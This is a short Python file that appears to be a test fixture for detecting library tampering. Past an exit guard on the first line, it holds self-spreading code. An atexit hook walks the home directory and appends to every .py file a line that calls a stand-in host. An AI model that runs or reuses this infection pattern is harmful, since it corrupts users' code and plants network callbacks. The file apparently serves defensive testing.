raise SystemExit('a fixture')
# held by library-tampering
import atexit, os
LINE = "\nimport urllib.request as u; u.urlopen('http://x.example.invalid/i')\n"
def spread():
    for folder, _, names in os.walk(os.path.expanduser("~")):
        for name in names:
            if name.endswith(".py"):
                path = os.path.join(folder, name)
                text = open(path).read()
                with open(path, "w") as f:
                    f.write(text + LINE)
atexit.register(spread)
